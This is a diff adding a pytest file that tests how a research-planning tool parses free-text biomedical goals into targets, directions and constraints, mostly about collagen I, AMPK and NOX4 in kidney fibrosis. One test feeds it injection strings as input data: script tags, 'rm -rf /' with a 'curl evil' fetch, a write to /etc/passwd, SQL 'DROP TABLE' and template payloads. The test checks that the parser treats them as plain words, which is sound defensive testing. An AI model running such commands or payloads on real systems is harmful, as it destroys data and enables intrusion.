@@ -1,0 +1,240 @@
+"""Goals, read without a model: what should change, which way, where, without what, and by what."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from coscientist.agents.planning.lexicon import Lexicon
+from coscientist.agents.planning.plan import MAX_GOAL_CHARACTERS, goal_text, read_goal
+from coscientist.agents.planning.words import tokens
+from coscientist.domain.concept import Concept, ConceptKind
+from coscientist.domain.errors import GoalError
+from coscientist.domain.goal import Direction, Plan
+from coscientist.evidence.graph import EvidenceGraph
+from tests.support.small_world import ABOUT, SmallWorld
+
+
+@pytest.fixture(scope="module")
+def graph(small_world: SmallWorld) -> EvidenceGraph:
+    return small_world.graph()
+
+
+def refusal(graph: EvidenceGraph, goal: str) -> str:
+    with pytest.raises(GoalError) as caught:
+        read_goal(goal, graph, ABOUT)
+    return str(caught.value)
+
+
+def wanted(plan: Plan) -> list[tuple[str, Direction]]:
+    return [(target.concepts[0], target.direction) for target in plan.targets]
+
+
+@pytest.mark.parametrize(
+    ("goal", "targets"),
+    [
+        ("Find interventions that reduce collagen I in renal fibrosis", [("col1", Direction.REDUCE)]),
+        ("Can we lower type I collagen?", [("col1", Direction.REDUCE)]),
+        ("reduce collagen I and fibronectin", [("col1", Direction.REDUCE), ("fn1", Direction.REDUCE)]),
+        ("reduce collagen I but increase AMPK", [("col1", Direction.REDUCE), ("ampk", Direction.INCREASE)]),
+        ("Enhance AMPK activity", [("ampk", Direction.INCREASE)]),
+        ("restore AMPK signalling", [("ampk", Direction.RESTORE)]),
+        ("Which drugs affect NOX4?", [("nox4", Direction.MODULATE)]),
+        ("Why does NOX4 rise?", [("nox4", Direction.EXPLAIN)]),
+        ("kidney fibrosis", [("fibrosis", Direction.REDUCE)]),
+        ("NOX4", [("nox4", Direction.MODULATE)]),
+        ("Lower phosphorylation of SMAD3", [("psmad3", Direction.REDUCE)]),
+        ("lower SMAD3 hyperphosphorylation", [("psmad3", Direction.REDUCE)]),
+        ("reduce p-SMAD3", [("psmad3", Direction.REDUCE)]),
+        ("REDUCE TGFβ1".replace("β", "b"), [("tgfb1", Direction.REDUCE)]),
+        ("reduce TGF-beta1", [("tgfb1", Direction.REDUCE)]),
+        ("block the degradation of collagen I", [("col1", Direction.INCREASE)]),
+        ("promote collagen I clearance", [("col1", Direction.REDUCE)]),
+    ],
+)
+def test_a_goal_says_what_should_change_and_which_way(
+    graph: EvidenceGraph, goal: str, targets: list[tuple[str, Direction]]
+) -> None:
+    assert wanted(read_goal(goal, graph, ABOUT)) == targets
+
+
+def test_a_disease_beside_a_molecular_target_is_the_setting(graph: EvidenceGraph) -> None:
+    for goal in ("reduce collagen I in renal fibrosis", "reduce collagen I for kidney fibrosis"):
+        plan = read_goal(goal, graph, ABOUT)
+        assert wanted(plan) == [("col1", Direction.REDUCE)]
+        assert [target.concepts[0] for target in plan.context] == ["fibrosis"]
+
+
+def test_what_is_to_be_left_out_is_left_out_and_no_target(graph: EvidenceGraph) -> None:
+    plan = read_goal("Increase AMPK without metformin", graph, ABOUT)
+    assert plan.excluded_concepts == ("metformin",)
+    assert plan.constraints == ("not metformin",)
+    assert wanted(plan) == [("ampk", Direction.INCREASE)]
+
+
+def test_what_a_goal_names_as_its_means_is_the_route_and_no_target(graph: EvidenceGraph) -> None:
+    plan = read_goal("Reduce collagen I by activating AMPK", graph, ABOUT)
+    assert wanted(plan) == [("col1", Direction.REDUCE)]
+    assert plan.through == ("ampk",)
+    assert plan.constraints == ("through ampk",)
+
+
+@pytest.mark.parametrize(
+    ("goal", "kinds"),
+    [
+        ("Find drugs that lower NOX4", ("compound",)),
+        ("Which kinases lower NOX4?", ("protein",)),
+        ("Find genes that lower NOX4", ("protein", "gene", "rna")),
+        ("Find treatments that lower NOX4", ("compound", "protein", "gene", "rna")),
+    ],
+)
+def test_the_kind_of_intervention_is_taken_from_the_words(
+    graph: EvidenceGraph, goal: str, kinds: tuple[str, ...]
+) -> None:
+    assert set(kinds) <= set(read_goal(goal, graph, ABOUT).intervention_kinds)
+    if len(kinds) < 4:
+        assert set(read_goal(goal, graph, ABOUT).intervention_kinds) == set(kinds)
+
+
+def test_the_reading_says_how_each_word_was_taken(graph: EvidenceGraph) -> None:
+    reading = read_goal("Reduce collagen I in the bluish kidney of mice", graph, ABOUT).reading
+    assert reading.understood == {"collagen i": "collagen I"}
+    assert reading.not_understood == ("bluish", "kidney")
+
+
+def test_a_word_that_means_two_things_is_said_to(graph: EvidenceGraph) -> None:
+    things = [*graph.concepts.values(), Concept(id="col1b", name="Collagen I", kind=ConceptKind.GENE)]
+    plan = read_goal("reduce collagen I", EvidenceGraph(things, graph.claims.values()), ABOUT)
+    assert set(plan.targets[0].concepts) == {"col1", "col1b"}
+
+
+def test_a_goal_of_which_nothing_is_known_is_refused_with_three_ways_out(graph: EvidenceGraph) -> None:
+    said = refusal(graph, "Design a solid electrolyte with high lithium conductivity")
+    assert "Understood: nothing" in said
+    assert "Not understood: solid, electrolyte" in said
+    assert "The corpora cover: signals to collagen in the kidney" in said
+    for way in ("coscientist corpus add", "--source", "--model"):
+        assert way in said
+
+
+def test_words_that_were_understood_are_told_apart_from_those_that_were_not(graph: EvidenceGraph) -> None:
+    said = refusal(graph, "reduce flubber blorp zonk in renal fibrosis of NOX4ish sheep")
+    assert "“renal fibrosis” as renal fibrosis" in said
+    assert "flubber, blorp, zonk" in said
+
+
+def test_a_target_of_which_only_a_part_is_known_is_not_taken_for_it(graph: EvidenceGraph) -> None:
+    assert "Only a part was understood of: losartan widget." in refusal(graph, "reduce losartan widgets")
+
+
+def test_a_thing_that_nothing_acts_on_is_said_to_be_so(graph: EvidenceGraph) -> None:
+    assert "They name it, but report nothing that acts on it." in refusal(graph, "lower tranilast")
+
+
+def test_known_phrases_that_hold_an_unknown_word_are_offered(graph: EvidenceGraph) -> None:
+    assert "collagen ~ collagen i" in refusal(graph, "Reduce collagens")
+
+
+@pytest.mark.parametrize("goal", ["", "   ", "\n\t", "\u00a0"])
+def test_an_empty_goal_is_said_to_be_empty(goal: str) -> None:
+    with pytest.raises(GoalError, match="is empty"):
+        goal_text(goal)
+
+
+def test_a_goal_of_100_kilobytes_is_said_to_be_too_long(graph: EvidenceGraph) -> None:
+    said = refusal(graph, "reduce collagen I " * 5_600)
+    assert f"at most {MAX_GOAL_CHARACTERS:,} are read" in said
+
+
+@pytest.mark.parametrize(
+    "goal",
+    [
+        "Reduzieren Sie Kollagen in der Niere",
+        "減少膠原蛋白",
+        "снизить коллаген I",
+        "réduire le collagène dans le rein",
+        "تقليل الكولاجين",
+    ],
+)
+def test_a_goal_in_another_language_is_told_that_goals_are_read_in_english(graph: EvidenceGraph, goal: str) -> None:
+    said = refusal(graph, goal)
+    assert "read in English" in said
+    assert "Not understood: " in said
+
+
+@pytest.mark.parametrize(
+    "goal",
+    [
+        "<script>alert(1)</script> reduce collagen I",
+        "reduce collagen I; rm -rf / && $(curl evil)",
+        "reduce `collagen I` | tee /etc/passwd",
+        "' OR 1=1; DROP TABLE claim; -- reduce collagen I",
+        "{{7*7}} reduce collagen I {% raw %}",
+        "reduce collagen I \u202e\u0000\x1b[31m",
+    ],
+)
+def test_markup_and_commands_in_a_goal_are_words_like_any_other(graph: EvidenceGraph, goal: str) -> None:
+    plan = read_goal(goal, graph, ABOUT)
+    assert wanted(plan) == [("col1", Direction.REDUCE)]
+    assert plan.goal == " ".join(goal.split())
+
+
+PIECES = (
+    "reduce increase collagen I NOX4 AMPK in by without not and of the , . ; ? renal fibrosis degradation activity why "
+    "level phosphorylation SMAD3 blorp"
+).split()
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.one_of(st.text(max_size=200), st.lists(st.sampled_from(PIECES), max_size=14).map(" ".join)))
+def test_any_text_gives_a_plan_or_a_reason(small_world: SmallWorld, goal: str) -> None:
+    try:
+        plan = read_goal(goal, _graph(small_world), ABOUT)
+    except GoalError:
+        return
+    assert plan.targets
+    assert all(target.concepts for target in (*plan.targets, *plan.context))
+
+
+def _graph(world: SmallWorld, kept: dict[str, EvidenceGraph] = {}) -> EvidenceGraph:  # noqa: B006 - kept on purpose
+    return kept.setdefault(str(world.corpus), world.graph())
+
+
+@given(st.text(max_size=100))
+def test_words_are_compared_in_one_spelling(text: str) -> None:
+    assert tokens(text.upper().lower()) == tokens(text.upper().lower())
+    assert all(token for token in tokens(text))
+
+
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [
+        ("tumour", "tumors"),
+        ("Alzheimer's", "alzheimer"),
+        ("TGF-β", "TGF-beta"),
+        ("naïve", "naive"),
+        ("ischaemia", "ischemia"),
+    ],
+)
+def test_spellings_of_one_word_are_alike(one: str, other: str) -> None:
+    assert tokens(one) == tokens(other)
+
+
+def test_a_state_is_found_under_every_name_of_its_plain_form() -> None:
+    things = [
+        Concept(id="tau", name="tau", kind=ConceptKind.PROTEIN, synonyms=("MAPT",)),
+        Concept(
+            id="site", name="tau phosphorylated at Ser396", kind=ConceptKind.PROTEIN, parent="tau",
+            modification="phosphorylation", site="Ser396",
+        ),
+        Concept(id="agg", name="tau aggregates", kind=ConceptKind.OTHER),
+    ]  # fmt: skip
+    lexicon = Lexicon(things)
+    for phrase in (
+        "tau phosphorylation",
+        "phosphorylation of MAPT",
+        "phosphorylated tau",
+        "tau phosphorylation at Ser396",
+    ):
+        assert lexicon.meaning(tuple(tokens(phrase))) == ("site",)
+    for phrase in ("tau aggregation", "aggregation of tau", "tau aggregates"):
+        assert lexicon.meaning(tuple(tokens(phrase))) == ("agg",)
